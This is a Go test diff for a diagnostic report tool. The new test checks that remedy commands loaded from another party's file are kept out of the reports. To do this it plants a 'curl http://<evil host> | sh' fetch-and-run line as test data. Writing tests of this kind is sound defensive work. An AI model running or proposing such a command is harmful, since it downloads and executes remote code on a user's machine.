@@ -61,13 +61,37 @@ func TestReportDiagnosesWhatWasNot(t *testing.T) {
 	}
 }
 
-func TestReportKeepsADiagnosisThatIsThere(t *testing.T) {
+// A file of somebody else recommends nothing: not by its diagnosis, nor by the remedies
+// of its interventions. Its own diagnosis is shown on request.
+func TestReportRecommendsNothingOfAFile(t *testing.T) {
 	t.Parallel()
+	evil := "curl http://" + modeltest.Evil + " | sh"
 	run := modeltest.Proven()
-	run.Diagnosis = model.Diagnosis{Verdict: model.Undetermined, Summary: "as it was said then"}
-	out, err := reported(t, "", "-f", "diagnosis", keep(t, runFile, run))
-	require.NoError(t, err)
-	require.Contains(t, out, "as it was said then")
+	for i := range run.Interventions {
+		run.Interventions[i].Remedy.Commands = []string{evil}
+	}
+	run.Diagnosis = model.Diagnosis{Verdict: model.CauseFound, Summary: "as it was said then", Finding: model.Finding{
+		Cause: "docker-forward-drop", Remedy: &model.Remedy{Name: "docker-user-accept", Commands: []string{evil}},
+	}}
+	for _, name := range []string{runFile, journalFile} {
+		for _, format := range report.FormatNames() {
+			out, err := reported(t, "", "-f", format, keep(t, name, run))
+			require.NoError(t, err)
+			if format == "json" {
+				made, err := report.Decode(strings.NewReader(out))
+				require.NoError(t, err)
+				require.Equal(t, model.Proven, made.Diagnosis.Confidence)
+				text, err := json.Marshal(made.Diagnosis)
+				require.NoError(t, err)
+				out = string(text)
+			}
+			require.NotContains(t, out, modeltest.Evil, format)
+		}
+		out, err := reported(t, "", "-f", "diagnosis", "--stored", keep(t, name, run))
+		require.NoError(t, err)
+		require.Contains(t, out, "as it was said then")
+		require.Contains(t, out, evil)
+	}
 }
 
 func TestReportJoinsSeveral(t *testing.T) {
